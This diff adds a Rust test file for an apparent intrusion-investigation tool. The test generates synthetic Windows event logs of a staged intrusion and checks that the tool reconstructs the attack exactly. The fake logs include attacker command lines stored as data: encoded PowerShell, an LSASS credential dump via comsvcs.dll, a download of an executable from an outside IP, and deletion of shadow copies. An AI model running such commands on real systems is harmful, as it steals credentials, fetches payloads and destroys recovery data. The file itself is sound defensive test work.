@@ -1,0 +1,658 @@
+//! `dwell investigate` against a dataset whose truth is known: five Windows hosts and a
+//! domain controller with a day of benign activity, a false positive two days earlier, and
+//! an intrusion that starts on WS01 at a known time and moves to WS02 (PsExec with stolen
+//! credentials) and on to WS03 (WMI). dwell must recover the first malicious event, patient
+//! zero, every compromised host and account, and the two movements, exactly.
+
+mod common;
+
+use common::{dwell, stderr, stdout};
+use serde_json::{Value, json};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+const SECURITY: &str = "Security";
+const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
+const SYSTEM: &str = "System";
+
+/// Per-host logs as evtx_dump JSON lines; remembers which line each event is on.
+#[derive(Default)]
+struct Logs {
+    files: BTreeMap<String, Vec<String>>,
+}
+
+impl Logs {
+    /// Appends an event and returns its (file name, line).
+    fn add(
+        &mut self,
+        host: &str,
+        channel: &str,
+        id: u32,
+        time: &str,
+        data: Value,
+    ) -> (String, u64) {
+        let file = format!("{}.jsonl", host.to_ascii_lowercase());
+        let lines = self.files.entry(file.clone()).or_default();
+        let record = lines.len() as u64 + 1;
+        let ev = json!({"Event": {
+            "System": {
+                "Provider": {"#attributes": {"Name": "test"}},
+                "EventID": id,
+                "Channel": channel,
+                "Computer": format!("{host}.corp.local"),
+                "EventRecordID": record,
+                "TimeCreated": {"#attributes": {"SystemTime": time}},
+            },
+            "EventData": data,
+        }});
+        lines.push(ev.to_string());
+        (file, record)
+    }
+
+    fn write(&self, dir: &Path) {
+        for (name, lines) in &self.files {
+            std::fs::write(dir.join(name), lines.join("\n") + "\n").expect("write log");
+        }
+    }
+}
+
+fn process(
+    logs: &mut Logs,
+    host: &str,
+    time: &str,
+    user: &str,
+    [image, parent, cmd]: [&str; 3],
+    logon: &str,
+) -> (String, u64) {
+    logs.add(
+        host,
+        SYSMON,
+        1,
+        time,
+        json!({
+            "UtcTime": time, "ProcessGuid": format!("{{{host}-{time}}}"), "ProcessId": "4242",
+            "Image": image, "CommandLine": cmd, "User": user, "LogonId": logon,
+            "ParentImage": parent, "ParentProcessGuid": format!("{{{host}-parent}}"),
+        }),
+    )
+}
+
+fn network_logon(
+    logs: &mut Logs,
+    host: &str,
+    time: &str,
+    user: &str,
+    from: &str,
+    ip: &str,
+    logon_id: &str,
+) {
+    logs.add(host, SECURITY, 4624, time, json!({
+        "SubjectUserName": format!("{host}$"), "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
+        "TargetUserName": user, "TargetDomainName": "CORP", "TargetLogonId": logon_id,
+        "LogonType": 3, "WorkstationName": from, "IpAddress": ip, "IpPort": "49152",
+    }));
+}
+
+struct Truth {
+    dir: PathBuf,
+    first: (String, u64),
+    false_positive: (String, u64),
+}
+
+/// The dataset. Times are UTC on 2026-02-03 unless said otherwise.
+fn generate(dir: &Path) -> Truth {
+    let mut logs = Logs::default();
+    let users = [
+        ("WS04", "bob", "10.0.0.14"),
+        ("WS05", "carol", "10.0.0.15"),
+        ("WS02", "dave", "10.0.0.12"),
+        ("WS01", "alice", "10.0.0.11"),
+    ];
+    // Two days before: a false positive on WS05 (an admin's own group lookup).
+    let false_positive = process(
+        &mut logs,
+        "WS05",
+        "2026-02-01T10:00:00.000000Z",
+        "CORP\\carol",
+        [
+            "C:\\Windows\\System32\\net.exe",
+            "C:\\Windows\\System32\\cmd.exe",
+            "net group \"print operators\" /domain",
+        ],
+        "0x2201",
+    );
+    // Benign day: every user logs on to the file server and the DC hands out tickets,
+    // every half hour; everyone starts ordinary programs. This also tells which IP is
+    // which workstation.
+    for (k, minute) in (0..20).map(|k| (k, 8 * 60 + k * 30)) {
+        let t = format!(
+            "2026-02-03T{:02}:{:02}:00.000000Z",
+            minute / 60,
+            minute % 60
+        );
+        for (n, (ws, user, ip)) in users.iter().enumerate() {
+            // alice stops using the file server once her machine is taken (09:12): after
+            // that, her logons would rightly be part of the intrusion.
+            if *user == "alice" && k > 1 {
+                continue;
+            }
+            network_logon(
+                &mut logs,
+                "FS01",
+                &t,
+                user,
+                ws,
+                ip,
+                &format!("0x{:x}", 0x1000 + k * 16 + n as i32),
+            );
+            logs.add("DC01", SECURITY, 4769, &t, json!({
+                "TargetUserName": format!("{user}@CORP.LOCAL"), "TargetDomainName": "CORP.LOCAL",
+                "ServiceName": "FS01$", "IpAddress": format!("::ffff:{ip}"), "Status": "0x0",
+            }));
+            process(
+                &mut logs,
+                ws,
+                &t,
+                &format!("CORP\\{user}"),
+                [
+                    "C:\\Program Files\\Google\\Chrome\\chrome.exe",
+                    "C:\\Windows\\explorer.exe",
+                    "chrome.exe --type=renderer",
+                ],
+                "0x5100",
+            );
+        }
+    }
+    // The intrusion. 09:12 WS01: alice opens a document that runs encoded PowerShell.
+    let first = process(
+        &mut logs,
+        "WS01",
+        "2026-02-03T09:12:00.000000Z",
+        "CORP\\alice",
+        [
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "powershell.exe -nop -w hidden -enc SQBFAFgA",
+        ],
+        "0x51a0",
+    );
+    process(
+        &mut logs,
+        "WS01",
+        "2026-02-03T09:17:00.000000Z",
+        "CORP\\alice",
+        [
+            "C:\\Windows\\System32\\rundll32.exe",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full",
+        ],
+        "0x51a0",
+    );
+    // 09:52 WS01 -> WS02 as admin with PsExec.
+    logs.add("WS01", SECURITY, 4648, "2026-02-03T09:52:00.000000Z", json!({
+        "SubjectUserName": "alice", "SubjectDomainName": "CORP", "SubjectLogonId": "0x51a0",
+        "TargetUserName": "admin", "TargetDomainName": "CORP", "TargetServerName": "WS02.corp.local",
+        "ProcessName": "C:\\Users\\alice\\AppData\\Local\\Temp\\PsExec64.exe",
+    }));
+    logs.add(
+        "DC01",
+        SECURITY,
+        4769,
+        "2026-02-03T09:52:00.500000Z",
+        json!({
+            "TargetUserName": "admin@CORP.LOCAL", "TargetDomainName": "CORP.LOCAL",
+            "ServiceName": "WS02$", "IpAddress": "::ffff:10.0.0.11", "Status": "0x0",
+        }),
+    );
+    network_logon(
+        &mut logs,
+        "WS02",
+        "2026-02-03T09:52:01.000000Z",
+        "admin",
+        "WS01",
+        "10.0.0.11",
+        "0x7a01",
+    );
+    logs.add(
+        "WS02",
+        SECURITY,
+        4672,
+        "2026-02-03T09:52:01.000000Z",
+        json!({
+            "SubjectUserName": "admin", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7a01",
+            "PrivilegeList": "SeDebugPrivilege",
+        }),
+    );
+    logs.add("WS02", SYSTEM, 7045, "2026-02-03T09:52:02.000000Z", json!({
+        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "AccountName": "LocalSystem",
+    }));
+    process(
+        &mut logs,
+        "WS02",
+        "2026-02-03T09:52:03.000000Z",
+        "CORP\\admin",
+        [
+            "C:\\Windows\\System32\\cmd.exe",
+            "C:\\Windows\\PSEXESVC.exe",
+            "cmd.exe",
+        ],
+        "0x7a01",
+    );
+    process(
+        &mut logs,
+        "WS02",
+        "2026-02-03T09:53:00.000000Z",
+        "CORP\\admin",
+        [
+            "C:\\Windows\\System32\\net.exe",
+            "C:\\Windows\\System32\\cmd.exe",
+            "net group \"domain admins\" /domain",
+        ],
+        "0x7a01",
+    );
+    // 11:30 WS02 -> WS03 with WMI; the logon names only the source address.
+    network_logon(
+        &mut logs,
+        "WS03",
+        "2026-02-03T11:30:00.000000Z",
+        "admin",
+        "-",
+        "10.0.0.12",
+        "0x9b02",
+    );
+    process(
+        &mut logs,
+        "WS03",
+        "2026-02-03T11:30:02.000000Z",
+        "CORP\\admin",
+        [
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+            "powershell.exe -c Invoke-WebRequest http://203.0.113.9/a.exe -OutFile C:\\ProgramData\\a.exe",
+        ],
+        "0x9b02",
+    );
+    // 12:15 WS03: shadow copies deleted before encryption.
+    process(
+        &mut logs,
+        "WS03",
+        "2026-02-03T12:15:00.000000Z",
+        "CORP\\admin",
+        [
+            "C:\\Windows\\System32\\vssadmin.exe",
+            "C:\\ProgramData\\a.exe",
+            "vssadmin.exe delete shadows /all /quiet",
+        ],
+        "0x9b02",
+    );
+    // Noise after the intrusion that must stay out of it: bob and carol keep working.
+    network_logon(
+        &mut logs,
+        "FS01",
+        "2026-02-03T12:20:00.000000Z",
+        "bob",
+        "WS04",
+        "10.0.0.14",
+        "0x8888",
+    );
+    logs.write(dir);
+    Truth {
+        dir: dir.to_path_buf(),
+        first,
+        false_positive,
+    }
+}
+
+fn rules() -> String {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/data/ground-truth/rules.yml")
+        .display()
+        .to_string()
+}
+
+fn investigate_json(dir: &Path, extra: &[&str]) -> Value {
+    let rules = rules();
+    let d = dir.display().to_string();
+    let mut args = vec![
+        "investigate",
+        "--rules",
+        &rules,
+        &d,
+        "--format",
+        "json",
+        "--no-progress",
+    ];
+    args.extend_from_slice(extra);
+    let out = dwell(&args);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    serde_json::from_str(&stdout(&out)).expect("investigate prints one JSON document")
+}
+
+fn names(v: &Value) -> Vec<String> {
+    v.as_array()
+        .unwrap()
+        .iter()
+        .map(|x| x["name"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn ground_truth_intrusion_is_recovered_exactly() {
+    let tmp = tempfile::tempdir().unwrap();
+    let truth = generate(tmp.path());
+    let report = investigate_json(&truth.dir, &[]);
+    let incidents = report["incidents"].as_array().unwrap();
+    assert_eq!(
+        incidents.len(),
+        2,
+        "the false positive and the intrusion: {report:#}"
+    );
+
+    // The false positive stays alone: one host, no movement.
+    let fp = &incidents[0];
+    assert_eq!(
+        fp["first"]["source"].as_str().unwrap(),
+        truth
+            .dir
+            .join(&truth.false_positive.0)
+            .display()
+            .to_string()
+    );
+    assert_eq!(fp["first"]["record"], truth.false_positive.1);
+    assert_eq!(names(&fp["hosts"]), ["WS05"]);
+    assert!(fp["movements"].as_array().unwrap().is_empty());
+
+    let inc = &incidents[1];
+    assert_eq!(inc["id"], 2);
+    // First malicious event and dwell time.
+    assert_eq!(inc["first"]["time"], "2026-02-03T09:12:00.000000Z");
+    assert_eq!(
+        inc["first"]["source"].as_str().unwrap(),
+        truth.dir.join(&truth.first.0).display().to_string()
+    );
+    assert_eq!(inc["first"]["record"], truth.first.1);
+    assert_eq!(
+        inc["first"]["rule_title"],
+        "Encoded PowerShell started by an Office application"
+    );
+    assert_eq!(inc["last"]["time"], "2026-02-03T12:15:00.000000Z");
+    assert_eq!(inc["dwell_seconds"], 3 * 3600 + 3 * 60);
+    // Patient zero, hosts and accounts.
+    assert_eq!(
+        inc["patient_zero"],
+        json!({"host": "WS01", "account": "CORP\\alice"})
+    );
+    assert_eq!(names(&inc["hosts"]), ["WS01", "WS02", "WS03"]);
+    assert_eq!(names(&inc["accounts"]), ["CORP\\alice", "CORP\\admin"]);
+    // Tactics in the order they appeared.
+    let tactics: Vec<&str> = inc["tactics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["tactic"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        tactics,
+        [
+            "initial-access",
+            "execution",
+            "credential-access",
+            "lateral-movement",
+            "discovery",
+            "command-and-control",
+            "impact"
+        ]
+    );
+    assert_eq!(inc["severity"], "critical");
+    assert_eq!(inc["detections"].as_array().unwrap().len(), 7);
+    // The two movements, exactly, with how they were made.
+    let moves: Vec<Value> = inc["movements"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| {
+            json!([
+                m["time"],
+                m["account"],
+                m["from"],
+                m["to"],
+                m["logon_type"],
+                m["admin"],
+                m["methods"]
+            ])
+        })
+        .collect();
+    assert_eq!(
+        moves,
+        [
+            json!([
+                "2026-02-03T09:52:00.000000Z",
+                "CORP\\admin",
+                "WS01",
+                "WS02",
+                3,
+                true,
+                [
+                    "explicit-credentials",
+                    "kerberos-service",
+                    "logon",
+                    "psexec"
+                ]
+            ]),
+            json!([
+                "2026-02-03T11:30:00.000000Z",
+                "CORP\\admin",
+                "WS02",
+                "WS03",
+                3,
+                false,
+                ["logon", "wmi"]
+            ]),
+        ]
+    );
+    // Every link is explained by an entity or a movement and two events of the incident.
+    let links = inc["links"].as_array().unwrap();
+    assert_eq!(links.len(), 6, "7 detections need 6 joins: {links:#?}");
+    // WS01 and WS02 share no entity: only the movement joins them. (WS02 and WS03 share
+    // the admin account, which may join them first.)
+    let moved: Vec<&str> = links
+        .iter()
+        .filter(|l| l["via"] == "movement")
+        .map(|l| l["entity"].as_str().unwrap())
+        .collect();
+    assert!(moved.contains(&"CORP\\admin WS01 -> WS02"), "{links:#?}");
+    for l in links {
+        assert!(l["from"]["time"].as_str().unwrap() <= l["to"]["time"].as_str().unwrap());
+    }
+    // 20 benign half-hours: bob, carol and dave to FS01 and alice twice, plus bob after.
+    assert_eq!(report["movements_seen"], 20 * 3 + 2 + 1 + 2);
+}
+
+#[test]
+fn a_shorter_gap_splits_the_intrusion() {
+    let tmp = tempfile::tempdir().unwrap();
+    let truth = generate(tmp.path());
+    // With a 30-minute gap the PsExec hop (35 minutes after the dump) no longer joins WS01
+    // to WS02, the WS02 -> WS03 hop (97 minutes after WS02's last detection) neither, and
+    // WS03's two moments 45 minutes apart stay apart too.
+    let report = investigate_json(&truth.dir, &["--gap", "30m"]);
+    let incidents = report["incidents"].as_array().unwrap();
+    let hosts: Vec<Vec<String>> = incidents.iter().map(|i| names(&i["hosts"])).collect();
+    assert_eq!(
+        hosts,
+        [
+            vec!["WS05"],
+            vec!["WS01"],
+            vec!["WS02"],
+            vec!["WS03"],
+            vec!["WS03"]
+        ]
+    );
+    assert_eq!(report["gap_seconds"], 1800);
+}
+
+#[test]
+fn case_file_reopens_to_the_same_report_and_has_the_documented_schema() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("logs");
+    std::fs::create_dir(&data).unwrap();
+    let truth = generate(&data);
+    let case = tmp.path().join("case.dwell");
+    let case_s = case.display().to_string();
+    let direct = investigate_json(&truth.dir, &["--case", &case_s]);
+    let out = dwell(&["report", &case_s, "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let reopened: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(direct, reopened);
+
+    // The tables and columns docs/case-file.md documents.
+    let doc = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/case-file.md"),
+    )
+    .unwrap();
+    let conn = schema(&case);
+    for (table, columns) in &conn {
+        assert!(
+            doc.contains(&format!("### `{table}`")),
+            "table {table} undocumented"
+        );
+        for c in columns {
+            assert!(
+                doc.contains(&format!("| `{c}` |")),
+                "column {table}.{c} undocumented"
+            );
+        }
+    }
+    assert!(conn.iter().any(|(t, _)| t == "detections"));
+    assert!(conn.len() >= 11, "{:?}", conn.keys());
+
+    // A case file from elsewhere is refused with a reason, not a crash.
+    let bogus = tmp.path().join("bogus.dwell");
+    std::fs::write(&bogus, b"not sqlite at all").unwrap();
+    let out = dwell(&["report", &bogus.display().to_string()]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(stderr(&out).contains("bogus.dwell"), "{}", stderr(&out));
+}
+
+/// The case file's tables and their columns, as SQLite reports them.
+fn schema(path: &Path) -> BTreeMap<String, Vec<String>> {
+    let conn =
+        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
+            .unwrap();
+    let tables: Vec<String> = conn
+        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .collect::<Result<_, _>>()
+        .unwrap();
+    tables
+        .into_iter()
+        .map(|t| {
+            let cols: Vec<String> = conn
+                .prepare(&format!("SELECT name FROM pragma_table_info('{t}')"))
+                .unwrap()
+                .query_map([], |r| r.get(0))
+                .unwrap()
+                .collect::<Result<_, _>>()
+                .unwrap();
+            (t, cols)
+        })
+        .collect()
+}
+
+#[test]
+fn timeline_exports_are_timesketch_ready() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("logs");
+    std::fs::create_dir(&data).unwrap();
+    let truth = generate(&data);
+    let csv = tmp.path().join("t.csv");
+    let jsonl = tmp.path().join("t.jsonl");
+    for p in [&csv, &jsonl] {
+        investigate_json(&truth.dir, &["--timeline", &p.display().to_string()]);
+    }
+    let csv = std::fs::read_to_string(csv).unwrap();
+    let mut lines = csv.lines();
+    assert!(
+        lines
+            .next()
+            .unwrap()
+            .starts_with("message,datetime,timestamp,timestamp_desc,")
+    );
+    // 8 detections and 2 movements.
+    assert_eq!(lines.count(), 10);
+    let rows: Vec<Value> = std::fs::read_to_string(jsonl)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(rows.len(), 10);
+    for r in &rows {
+        assert!(r["message"].as_str().unwrap().starts_with("[incident "));
+        assert!(r["datetime"].as_str().unwrap().ends_with('Z'));
+        assert!(r["timestamp"].as_i64().unwrap() > 1_700_000_000_000_000);
+        assert!(["Detection", "Lateral Movement"].contains(&r["timestamp_desc"].as_str().unwrap()));
+    }
+    let moves: Vec<&str> = rows
+        .iter()
+        .filter(|r| r["kind"] == "movement")
+        .map(|r| r["message"].as_str().unwrap())
+        .collect();
+    assert_eq!(moves.len(), 2);
+    assert!(
+        moves[0].contains("CORP\\admin from WS01 to WS02"),
+        "{}",
+        moves[0]
+    );
+}
+
+#[test]
+fn hunt_case_and_ocsf() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("logs");
+    std::fs::create_dir(&data).unwrap();
+    let truth = generate(&data);
+    let case = tmp.path().join("h.dwell");
+    let rules = rules();
+    let d = truth.dir.display().to_string();
+    let out = dwell(&[
+        "hunt",
+        "--rules",
+        &rules,
+        &d,
+        "--format",
+        "ocsf",
+        "--case",
+        &case.display().to_string(),
+        "--no-progress",
+    ]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let findings: Vec<Value> = stdout(&out)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(findings.len(), 8);
+    let f = &findings[0];
+    assert_eq!(f["class_uid"], 2004);
+    assert_eq!(f["type_uid"], 200401);
+    assert_eq!(f["severity_id"], 3);
+    assert_eq!(
+        f["finding_info"]["analytic"]["uid"],
+        "6d1c0c5e-7f0b-4a57-9a57-3c1b4b8f0004"
+    );
+    assert_eq!(
+        f["finding_info"]["attacks"],
+        json!([{"tactic": {"name": "discovery", "uid": "TA0007"}}, {"technique": {"uid": "T1069.002"}}])
+    );
+    assert_eq!(f["device"]["hostname"], "WS05.corp.local");
+    assert_eq!(
+        f["evidences"][0]["data"]["CommandLine"],
+        "net group \"print operators\" /domain"
+    );
+    assert_eq!(f["time"], 1_769_940_000_000i64);
+    // hunt --case writes the same incidents investigate finds.
+    let out = dwell(&["report", &case.display().to_string(), "--format", "json"]);
+    let from_hunt: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(from_hunt, investigate_json(&truth.dir, &[]));
+}
